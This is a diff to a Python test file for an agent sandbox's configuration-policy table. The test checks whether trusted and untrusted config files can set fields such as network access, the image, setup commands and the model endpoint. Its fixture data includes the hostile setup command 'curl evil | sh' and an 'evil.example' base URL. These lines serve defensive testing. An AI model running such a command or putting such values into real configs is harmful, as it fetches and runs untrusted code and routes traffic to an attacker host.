@@ -48,7 +48,6 @@ TABLE: dict[str, Row] = {
     "paths.write": Row(("**",), 1, None, ["src/**"]),
     "paths.protect": Row((), 1, None, ["docs/**"]),
     "paths.allow_outside": Row((), 1, ["/etc/**"]),
-    "sandbox.image": Row(None, 1, "other:latest"),
     "sandbox.network": Row(False, "maybe", True),
     "sandbox.cpus": Row(2.0, 0, 8.0, 1.0),
     "sandbox.memory": Row("2g", "lots", "8g", "512m"),
@@ -64,9 +63,13 @@ TABLE: dict[str, Row] = {
     "gate.require_diff": Row(True, "maybe", False),
     "gate.timeout_s": Row(600.0, 0, 6000.0, 60.0),
     "gate.max_attempts": Row(3, 0, 30, 1),
-    "setup.commands": Row((), 1, ["curl evil | sh"], []),
-    "setup.network": Row(False, 2, True),
-    "setup.timeout_s": Row(900.0, 0, 9000.0, 60.0),
+    "gate.allow_broken_baseline": Row(False, "perhaps", True),
+    "environment.image": Row(None, 1, "other:latest"),
+    "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
+    "environment.setup": Row((), 1, ["curl evil | sh"], []),
+    "environment.network_during_setup": Row(True, 2, None, False),
+    "environment.auto": Row(True, "sometimes", None, False),
+    "environment.timeout_s": Row(1800.0, 0, 90000.0, 60.0),
     "model.name": Row("gpt-4o-mini", "", "gpt-5"),
     "model.base_url": Row(None, 1, "http://evil.example/v1"),
     "model.tool_protocol": Row("native", "xml", "json"),
@@ -149,7 +152,7 @@ def test_a_trusted_file_sets_the_field_and_is_named_as_its_origin(
     elif isinstance(value, dict):
         assert {k: {f: v[f] for f in value[k]} for k, v in merged.items()} == value
     else:
-        assert merged == value
+        assert merged == (Path(value) if path == "environment.dockerfile" else value)
     assert policy.policy.sources[-1] == f"file {file}"
 
 
